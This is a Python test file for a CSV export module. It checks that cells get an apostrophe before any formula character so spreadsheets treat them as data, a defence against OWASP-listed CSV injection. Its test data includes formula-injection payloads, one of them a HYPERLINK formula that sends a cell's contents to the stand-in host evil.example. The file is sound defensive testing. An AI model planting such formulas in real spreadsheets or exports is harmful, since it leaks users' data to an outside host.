"""CSV cells that a spreadsheet keeps as data, however it splits the line (OWASP, CSV
injection: the cell's start, and a separator inside it)."""

from __future__ import annotations

import csv
import io
import re

import pytest

from sfo_review.services.csv_cells import document, escape, unescape

HOSTILE = [
    "=1+1",
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    'Assault;=HYPERLINK("http://evil.example/?"&A1,"x")',
    "Camden,+SUM(1)",
    "a; -2+3",
    'a;"=1+1',
    "a,'@cmd",
    ' "=1+1',
    "x;;=1",
    "Actions:\n- call the police\n+ visit",
    "a\t=1",
]
ORDINARY = [
    "Camden and Islington",
    "Met the officer; no concerns.",
    "Seen at home, in custody and at court - twice",
    "Email j.smith@example.org, then call",
    "Visited,\nthen left",
    "'quoted",
    "",
]


def formula_cells(data: bytes) -> list[str]:
    """Every cell that starts a formula when the file is split on commas, on semicolons or
    on tabs, or split on one and then each cell again on the others and at line breaks
    (spaces and quotes before the formula character do not stop it)."""
    text = data.decode("utf-8-sig")
    cells: list[str] = []
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            cells += row
            cells += [part for cell in row for part in re.split("[,;\t\r\n]", cell)]
    return [c for c in cells if re.match(r"[\s\"]*[=+\-@]", c)]


@pytest.mark.parametrize("cell", HOSTILE)
def test_no_split_of_the_file_shows_a_spreadsheet_a_formula(cell: str) -> None:
    data = document(["text"], [[cell], ["plain", cell, 3, None]])

    assert formula_cells(data) == []


@pytest.mark.parametrize("cell", HOSTILE + ORDINARY)
def test_importing_an_exported_cell_gives_it_back(cell: str) -> None:
    assert unescape(escape(cell)) == cell


@pytest.mark.parametrize("cell", ORDINARY)
def test_ordinary_text_is_exported_as_it_is(cell: str) -> None:
    assert escape(cell) == cell


def test_the_apostrophe_goes_where_the_formula_would_start() -> None:
    assert escape("=1+1") == "'=1+1"
    assert escape("\tTab") == "'\tTab"
    assert escape("\t=1") == "'\t'=1"  # a tab is a separator to some spreadsheets
    assert escape("a;=HYPERLINK(1)") == "a;'=HYPERLINK(1)"
    assert escape("x, +44") == "x, '+44"
    assert escape('a;"=1+1') == "a;\"'=1+1"


def test_a_file_is_utf8_with_the_byte_order_mark_and_crlf() -> None:
    data = document(["a", "b"], [["1", None], [2, "x,y"]])

    assert data == '\ufeffa,b\r\n1,\r\n2,"x,y"\r\n'.encode()
